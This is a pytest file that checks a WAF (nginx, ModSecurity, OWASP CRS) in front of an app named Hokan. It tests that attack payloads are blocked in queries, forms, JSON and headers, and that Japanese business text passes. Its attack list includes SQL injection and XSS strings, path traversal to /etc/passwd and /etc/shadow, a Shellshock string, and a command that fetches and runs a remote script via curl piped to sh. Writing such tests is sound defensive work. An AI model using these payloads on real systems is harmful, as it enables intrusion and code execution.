"""The production front's WAF (EDGE-3, issue 18): nginx from Debian with ModSecurity v3
and the OWASP Core Rule Set at paranoia level 1 (deploy/nginx/modsecurity), in front
of the app as 'hokan serve' runs it, over mTLS with a valid terminal certificate.

Classic SQL injection, XSS, command injection and path traversal in the query, a
urlencoded form, JSON, headers and cookies are refused by the front itself; Japanese
business requests reach the app; Hokan's exclusions (passwords, one-time codes, the
vault's number, attachment bodies) hold; rule 941310 is off."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlencode

import httpx
import pytest

from tests.edge.test_mtls import Pki, _client, mtls_pki, nginx_front  # noqa: F401
from tests.edge.waf_corpus import corpus, front

pytestmark = [pytest.mark.slow, pytest.mark.edge_settings(trusted_proxies="127.0.0.1/32")]

RECORDS = "/api/v1/collections/staff/records/"
HOST = {"Host": "hokan.example"}  # a name, as terminals use (a numeric Host scores 3 in CRS)

# (family, payload, also in headers?). At PL1 the CRS reads User-Agent and Referer for
# SQL injection and XSS, and every header for Shellshock; command injection and path
# traversal only in arguments, cookies and the URI (Hokan's own layer reads headers).
ATTACKS = [
    ("sqli", "1' OR '1'='1' --", True),
    ("sqli", "1 UNION SELECT username, password FROM users--", True),
    ("xss", "<script>alert(document.cookie)</script>", True),
    ("xss", '"><img src=x onerror=alert(1)>', True),
    ("rce", "; cat /etc/passwd", False),
    ("rce", "$(curl http://203.0.113.9/x.sh | sh)", False),
    ("rce", "() { :; }; /bin/cat /etc/passwd", True),
    ("lfi", "../../../../etc/passwd", False),
    ("lfi", "....//....//....//etc/shadow", False),
]

# Japanese business text an attack-minded rule could trip over.
JAPANESE = [
    "山田 太郎（ヤマダ タロウ）",
    "ｻﾄｳ ﾊﾅｺ／佐藤 花子",
    "㈱日本警備保障 東京支社（本社：大阪）",
    "株式会社スタッフサービス｜人材派遣・紹介予定派遣",
    "〒100-0005 東京都千代田区丸の内１－９－１ グラントウキョウノースタワー 12F",
    "夜勤 22:00〜翌6:00、時給 ¥1,450（深夜割増 25%）",
    "O'Brien さんと D'Souza さんの入館証を再発行（旧カードは無効化済み）",
    "連絡先: yamada.taro+shift@example.co.jp / https://www.example.co.jp/recruit?id=42&lang=ja",
    "「至急」対応をお願いします・担当：佐藤（営業部）",
    "１＝１の確認をお願いします",
    "＜重要＞本日の会議は中止です",
    "見積もり 120,000円（税込）、支払いは月末締め翌月末払い。",
    "第2会議室 rm 201 にて面接 10:30-11:00",
    # UTF-8 bytes 0xBC (ー) ... 0xBE (ゾ): CRS rule 941310 refuses this; it is removed.
    "コールセンター・ゾーン管理",
]


@pytest.fixture
def front_client(mtls_pki: Pki, nginx_front: str) -> Iterator[httpx.Client]:  # noqa: F811
    with _client(mtls_pki, mtls_pki.valid) as c:
        c.headers.update({**HOST, **mtls_pki.a.headers})
        yield c


def _placements(payload: str, headers: bool = True) -> Iterator[tuple[str, dict[str, object]]]:
    q = quote(payload, safe="")
    yield "query", {"method": "GET", "url": f"{RECORDS}rec-1?q={q}"}
    yield (
        "form",
        {
            "method": "POST",
            "url": f"{RECORDS}rec-1",
            "content": urlencode({"comment": payload, "ok": "1"}),
            "headers": {"Content-Type": "application/x-www-form-urlencoded"},
        },
    )
    doc = {"name": "山田太郎", "notes": [{"text": payload}]}
    yield (
        "json",
        {
            "method": "PUT",
            "url": f"{RECORDS}rec-1",
            "content": json.dumps(doc, ensure_ascii=False).encode(),
            "headers": {"Content-Type": "application/json"},
        },
    )
    if not headers:
        return
    header = payload if payload.isascii() else q
    yield (
        "user-agent",
        {"method": "GET", "url": f"{RECORDS}rec-1", "headers": {"User-Agent": header}},
    )
    yield (
        "referer",
        {
            "method": "GET",
            "url": f"{RECORDS}rec-1",
            "headers": {"Referer": header},
        },
    )


def _send(c: httpx.Client, base: str, req: dict[str, object]) -> httpx.Response:
    headers = dict(c.headers)
    headers.update(req.get("headers", {}))  # type: ignore[arg-type]
    return c.request(
        str(req["method"]),
        base + str(req["url"]),
        content=req.get("content"),  # type: ignore[arg-type]
        headers=headers,
    )


def _refused(r: httpx.Response) -> bool:
    return front.refused_by_front(r.status_code, r.content)


def test_classic_attacks_in_every_placement_are_refused_by_the_front(
    front_client: httpx.Client,
    nginx_front: str,  # noqa: F811
    tmp_path: Path,
) -> None:
    missed = []
    for family, payload, in_headers in ATTACKS:
        for placement, req in _placements(payload, in_headers):
            r = _send(front_client, nginx_front, req)
            if not _refused(r):
                missed.append((family, placement, payload, r.status_code))
    assert missed == [], missed
    # Hokan-style JSON with a request id; nginx's error log names the rules under that id.
    r = _send(front_client, nginx_front, next(_placements(ATTACKS[0][1]))[1])
    body = r.json()
    assert body["error"] == "waf_blocked" and r.headers["x-request-id"] == body["request_id"]
    ids = front.rules_logged(tmp_path / "nginx" / "error.log", body["request_id"])
    assert {"942100", "949110"} <= ids, ids


def test_japanese_business_requests_pass_the_front(
    front_client: httpx.Client,
    nginx_front: str,  # noqa: F811
) -> None:
    refused = []
    for i, record in enumerate(corpus.benign_records(120, seed=18)):
        r = front_client.put(f"{nginx_front}{RECORDS}rec-{i}", json=record)
        if r.status_code not in (200, 201):
            refused.append(("json", r.status_code, r.text[:200]))
        text = str(record.get("note") or record.get("report"))
        r = front_client.get(f"{nginx_front}{RECORDS}rec-{i}", params={"q": text, "limit": "50"})
        if r.status_code != 200:
            refused.append(("query", r.status_code, text))
        form = {k: str(v) for k, v in record.items() if isinstance(v, str)}
        r = front_client.post(f"{nginx_front}{RECORDS}rec-{i}", data=form)
        if _refused(r) or r.status_code == 403:
            refused.append(("form", r.status_code, r.text[:200]))
    for text in JAPANESE:
        r = front_client.put(f"{nginx_front}{RECORDS}note", json={"note": text, "tags": [text]})
        if r.status_code not in (200, 201):
            refused.append(("json", r.status_code, text))
        q = quote(text, safe="")
        referer = {"Referer": f"https://app.example.co.jp/search?q={q}"}
        r = front_client.get(f"{nginx_front}{RECORDS}note?q={q}", headers=referer)
        if r.status_code != 200:
            refused.append(("query+referer", r.status_code, text))
    assert refused == []


def test_hokan_exclusions_hold_at_the_front(
    front_client: httpx.Client,
    nginx_front: str,  # noqa: F811
    mtls_pki: Pki,  # noqa: F811
) -> None:
    odd = "p@ss' OR 1=1 -- <script>"
    # A password and a one-time code are hashed, never interpreted: the app answers.
    r = front_client.post(
        f"{nginx_front}/api/v1/auth/login",
        json={"serial": "1234-5678-9012-3456", "password": odd, "otp": "' OR ''='"},
    )
    assert not _refused(r) and r.status_code == 401, r.text
    # The same text in any other field is refused.
    r = front_client.post(
        f"{nginx_front}/api/v1/auth/login",
        json={"serial": odd, "password": "x"},
    )
    assert _refused(r)
    # Attachment bodies are the malware scanner's: an HTML file with a script is not
    # the front's business (the app sniffs and scans it).
    r = front_client.post(
        f"{nginx_front}{RECORDS}rec-1/attachments?filename=page.html",
        content=b"<html><script>alert(document.cookie)</script></html>",
        headers={"Content-Type": "application/octet-stream"},
    )
    assert not _refused(r), r.text
    # ... but its query is inspected.
    r = front_client.post(
        f"{nginx_front}{RECORDS}rec-1/attachments?filename=../../../../etc/passwd",
        content=b"plain",
        headers={"Content-Type": "application/octet-stream"},
    )
    assert _refused(r)
